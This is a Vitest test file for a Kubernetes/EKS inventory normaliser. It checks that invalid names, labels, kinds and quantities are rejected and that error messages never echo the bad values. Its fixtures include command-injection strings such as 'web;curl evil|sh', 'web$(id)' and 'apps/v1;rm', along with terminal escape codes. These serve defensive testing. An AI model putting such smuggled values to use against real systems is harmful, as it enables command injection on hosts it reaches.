import { describe, expect, it } from 'vitest';
import { normalizeDocuments } from './normalize.js';
import { deployment, normalize, object, podSpec } from './__fixtures__/raw.js';

const ESC = '\u001b[31m';
const withResources = (resources: Record<string, unknown>) =>
  deployment('web', 'shop', { template: { metadata: { labels: { app: 'web' } }, spec: { containers: [{ ...podSpec().containers[0], resources }] } } });

const onlyError = (values: unknown[]) => {
  const { problems } = normalize(...values);
  expect(problems).toHaveLength(1);
  expect(problems[0]?.severity).toBe('error');
  return problems[0]!;
};

describe('names are validated when the inventory is read', () => {
  it('refuses an EKS cluster name with a newline, naming the field and not the name', () => {
    const problem = onlyError([{ cluster: { name: 'demo\nconsole.log("pwned")' } }]);
    expect(problem.message).toBe(
      'aws eks describe-cluster output: cluster.name must be an EKS name (1 to 100 letters, digits, - or _, starting with a letter or digit)',
    );
  });

  it('refuses an EKS cluster name longer than 100 characters', () => {
    expect(onlyError([{ cluster: { name: 'a'.repeat(101) } }]).message).toContain('cluster.name must be an EKS name');
    expect(normalize({ cluster: { name: 'a'.repeat(100) } }).problems).toEqual([]);
  });

  it('refuses Kubernetes names that are not DNS-1123, whatever the kind, and never echoes them', () => {
    const huge = 'x'.repeat(300_000);
    for (const [value, field] of [
      [deployment(`web;curl evil|sh`, 'shop'), 'metadata.name'],
      [deployment(huge, 'shop'), 'metadata.name'],
      [deployment('web', `shop${ESC}`), 'metadata.namespace'],
      [object('v1', 'Namespace', 'a'.repeat(64)), 'metadata.name'],
      [object('v1', 'Service', '1web', 'shop'), 'metadata.name'],
      [object('rbac.authorization.k8s.io/v1', 'Role', 'a/b', 'shop'), 'metadata.name'],
    ] as const) {
      const problem = onlyError([value]);
      expect(problem.message).toContain(`${field} must be`);
      expect(problem.message.length).toBeLessThan(300);
      expect(problem.message).not.toContain(ESC);
      expect(problem.message).not.toContain(';curl');
    }
  });

  it('accepts the names real clusters use, ClusterRoles with colons included', () => {
    const { problems } = normalize(
      deployment('web-1.v2', 'kube-system'),
      object('rbac.authorization.k8s.io/v1', 'ClusterRole', 'system:aggregate-to-admin'),
      object('v1', 'Service', 'web', 'shop', { spec: { selector: { 'app.kubernetes.io/name': 'web', tier: '' } } }),
    );
    expect(problems).toEqual([]);
  });

  it('refuses a label key or value that Kubernetes would refuse, without quoting it', () => {
    const badKey = onlyError([deployment('web', 'shop', { template: { metadata: { labels: { [`a b${ESC}`]: 'x' } }, spec: podSpec() } })]);
    expect(badKey.message).toBe(
      'Deployment shop/web: spec.template.metadata.labels has a key that must be a label key (an optional DNS subdomain and /, then at most 63 letters, digits, -, _ or ., starting and ending with a letter or digit)',
    );
    const badValue = onlyError([object('v1', 'Service', 'web', 'shop', { spec: { selector: { app: 'web$(id)' } } })]);
    expect(badValue.message).toContain('spec.selector.app must be a label value');
    expect(badValue.message).not.toContain('$(id)');
  });

  it('refuses a kind or apiVersion no API server could serve', () => {
    expect(onlyError([object('v1', `Deploy${ESC}`, 'web', 'shop')]).message).toMatch(/^kind must be a Kubernetes kind/);
    expect(onlyError([object('apps/v1;rm', 'Deployment', 'web', 'shop')]).message).toMatch(/^apiVersion must be/);
  });
});

describe('quantities are validated when the inventory is read', () => {
  for (const [cpu, memory] of [
    ['abc', '1Gi'],
    ['250m', '-5Gi'],
    ['250m', '5Qi'],
    [-1, '1Gi'],
    ['1e400', '1Gi'],
    ['250m', Infinity],
  ] as const) {
    it(`refuses cpu ${String(cpu)} / memory ${String(memory)} with the field path`, () => {
      const problem = onlyError([withResources({ requests: { cpu, memory } })]);
      expect(problem).toMatchObject({ file: 'inventory.yaml', line: 10 });
      expect(problem.message).toMatch(/^Deployment shop\/web: spec\.template\.spec\.containers\[0\]\.resources\.requests\.(cpu|memory) must be/);
    });
  }

  it('accepts every form of quantity Kubernetes writes', () => {
    const { problems } = normalize(
      withResources({ requests: { cpu: '250m', memory: '1.5Gi', 'ephemeral-storage': '1e9' }, limits: { cpu: 2, memory: '512M', 'nvidia.com/gpu': '+1' } }),
    );
    expect(problems).toEqual([]);
  });
});

describe('items of a List that cannot be read are errors, not skips', () => {
  it('reports an item without kind or apiVersion, or an empty one, at its own line', () => {
    const { problems, inventory } = normalizeDocuments([
      { value: { metadata: { name: 'a' } }, origin: { file: 'list.yaml', line: 4 }, inList: true },
      { value: { apiVersion: 'apps/v1', metadata: { name: 'b' } }, origin: { file: 'list.yaml', line: 7 }, inList: true },
      { value: null, origin: { file: 'list.yaml', line: 9 }, inList: true },
      { value: object('v1', 'Namespace', 'ok'), origin: { file: 'list.yaml', line: 10 }, inList: true },
    ]);
    expect(problems.map((p) => [p.line, p.severity, p.message])).toEqual([
      [4, 'error', 'an item of the List has no apiVersion and no kind, so it cannot be read; every item needs apiVersion, kind and metadata'],
      [7, 'error', 'an item of the List has no kind, so it cannot be read; every item needs apiVersion, kind and metadata'],
      [9, 'error', 'an item of the List is empty, so it cannot be read; every item needs apiVersion, kind and metadata'],
    ]);
    expect(inventory.namespaces).toHaveLength(1);
  });

  it('still reads AWS CLI output gathered into a List', () => {
    const { problems, inventory } = normalizeDocuments([{ value: { cluster: { name: 'demo' } }, origin: { file: 'list.json', line: 1 }, inList: true }]);
    expect(problems).toEqual([]);
    expect(inventory.cluster?.name).toBe('demo');
  });

  it('still skips, with a word, a stand-alone document that is not a cluster object', () => {
    expect(normalize({ foo: 1 }).problems).toMatchObject([{ severity: 'skipped' }]);
  });
});
